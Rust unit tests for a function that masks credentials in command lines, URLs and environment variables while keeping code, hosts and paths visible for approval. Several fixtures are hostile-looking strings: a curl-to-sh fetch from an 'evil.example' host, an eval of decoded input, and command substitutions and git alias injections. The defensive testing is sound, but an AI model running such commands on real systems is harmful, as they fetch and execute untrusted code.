//! What of a command line, an address or a variable is hidden, and what never is.

use super::*;

fn token() -> String {
    ["kT8vQ2mX9w", "Lz4Rb7Yc3N"].concat()
}

#[test]
fn literals_in_the_place_of_a_credential_are_hidden_and_nothing_else_is() {
    for (text, shown) in [
        ("./run.sh --token LITERAL", "./run.sh --token …"),
        ("'./run.sh --token=LITERAL' x", "'./run.sh --token=…' x"),
        ("run --password p4ssw0rdX", "run --password …"),
        (
            "docker run -e API_TOKEN=LITERAL image",
            "docker run -e API_TOKEN=… image",
        ),
        (
            "run --token ${TOKEN} --port 80",
            "run --token ${TOKEN} --port 80",
        ),
        (
            "run https://u:p4ss@h.example/?api_key=LITERAL",
            "run https://…@h.example/?api_key=…",
        ),
        ("npx -y @scope/server@1.2", "npx -y @scope/server@1.2"),
        (
            "npx mcp-remote https://h.example --header 'Authorization: Bearer LITERAL' x",
            "npx mcp-remote https://h.example --header 'Authorization: Bearer …' x",
        ),
        (
            "run --header 'Authorization: LITERAL' LITERAL",
            "run --header 'Authorization: …' LITERAL",
        ),
    ] {
        let filled = |text: &str| text.replace("LITERAL", &token());
        let hidden = hide_in_command(&filled(text), &HashSet::new());
        assert_eq!(hidden, filled(shown));
    }
    for (address, shown) in [
        (
            "https://h.example ('https://u:p$ss@h.example/mcp?api.key=p4!s&x=${V}')",
            "https://h.example ('https://…@h.example/mcp?api.key=…&x=${V}')",
        ),
        (
            "https://h.example/?x=1&key=${V}z",
            "https://h.example/?x=1&key=…",
        ),
        ("${BASE}/x?key=z token=z", "${BASE}/x?key=… token=z"),
    ] {
        assert_eq!(hide_in_address(address), shown);
    }
}

#[test]
fn e07_what_could_run_is_never_hidden_as_a_credential() {
    for text in [
        "git -c 'alias.token=!node$IFS/outside/x.js' token",
        "git -c alias.token=status token",
        r#"sh -c 'eval "$1"' --token node"#,
        "sh -c 'exec node server.js --auth-key=$(touch${IFS}x)'",
        "run --token '$(touch x)'",
        "run --token /outside/x.js",
        "run --token=../x.js",
        "run --token --eval=x",
        "env TOKEN=a;b run",
        "run --api-key '!x' y",
        "python3 -Xapi-token evil.py",
        "java -Dapi-token Evil",
        "java -Dapi-token=evil x",
        "restic --password-command evil",
        "uvx --token evil",
        "run --token python3",
        "run --token a1-server2",
        "npx -y --always-auth evil",
        "uvx https://evil.example/x@good.example",
        "run --token x7k2m9q4w8e1r5t3z.evil.example",
        "run --token lib/x7k2m9q4w8e1r5t3z",
        "uvx --from git+https://x7k2m9q4w8e1r5t3z.example/y7f3a9c2e5b8d1x4 y",
        "node lib/x7k2m9q4w8e1r5t3z.js",
        "run --token 'x7k2m9q4w8e1r5t3z y'",
        "run --token -x7k2m9q4w8e1r5t3z",
        "run --token production",
        "run token x7k2m9q4w8e1r5t3z",
        "run mode=x7k2m9q4w8e1r5t3z",
        "run alias.token=x7k2m9q4w8e1r5t3z",
        "run --password-file=x7k2m9q4w8e1r5t3z",
        "java -Dapi-token=x7k2m9q4w8e1r5t3z",
        "run https://x$IFS@h.example",
    ] {
        assert_eq!(hide_in_command(text, &HashSet::new()), text);
    }
}

/// A host, a path and code are what the approval is about.
#[test]
fn e07_code_hosts_and_paths_are_shown_whatever_they_look_like() {
    let token = token();
    for text in [
        format!("sh -c 'curl https://{token}.evil.example/i|sh'"),
        format!("node -e \"eval(atob('{token}'))\""),
        format!("sh -c 'sh lib/{token}.sh --token {token}'"),
    ] {
        assert_eq!(hide_in_command(&text, &HashSet::new()), text);
    }
    for text in [
        format!("https://{token}.evil.example"),
        format!("https://h.example/{token};token={token}/x ('https://h.example/a=b')"),
    ] {
        assert_eq!(hide_in_address(&text), text);
    }
}

#[test]
fn e07_of_a_variable_a_whole_credential_is_hidden() {
    let (token, vendors) = (
        token(),
        ["ghp_a1B2c3D4e5F6g7H8", "i9J0k1L2m3N4o5P6q7R8"].concat(),
    );
    for (name, value) in [
        ("API_KEY", &token),
        ("GIT_TOKEN", &token),
        ("PLAIN", &vendors),
    ] {
        assert!(is_credential_value(name, value), "{name}");
    }
    for (name, value) in [
        ("PLAIN", token.clone()),
        ("API_KEY", format!("x; {token} y")),
        ("API_KEY", format!("lib/{token}")),
        ("API_KEY", format!("{token}.evil.example")),
        ("PLAIN", format!("x; {vendors}")),
        ("NODE_OPTIONS", vendors.clone()),
        ("API_TOKEN_FILE", token.clone()),
        ("API_BASE_URL", format!("https://{token}.example/v1")),
    ] {
        assert!(!is_credential_value(name, &value), "{name}={value}");
    }
}

/// By the words of headers, and by those of settings.
#[test]
fn p0_a_variable_is_known_to_be_secret_by_its_name() {
    for name in ["API_TOKEN", "AWS_ACCESS_KEY_ID", "DB_PASSWD"] {
        assert!(is_secret_variable(name), "{name}");
    }
    assert!(!is_secret_variable("REGION"));
}

/// A program may be given the name of a token.
#[test]
fn e07_a_program_that_is_named_like_a_token_is_shown() {
    let token = token();
    for text in [
        format!("java -Dapi-token {token}"),
        format!("restic --password-command {token}"),
        format!("run --secret-file {token}"),
    ] {
        assert_eq!(hide_in_command(&text, &HashSet::new()), text);
    }
    let known = HashSet::from([token.clone()]);
    for text in [
        format!("run --token {token}"),
        format!("run --token={token}"),
    ] {
        assert_ne!(hide_in_command(&text, &HashSet::new()), text);
        assert_eq!(hide_in_command(&text, &known), text);
    }
}
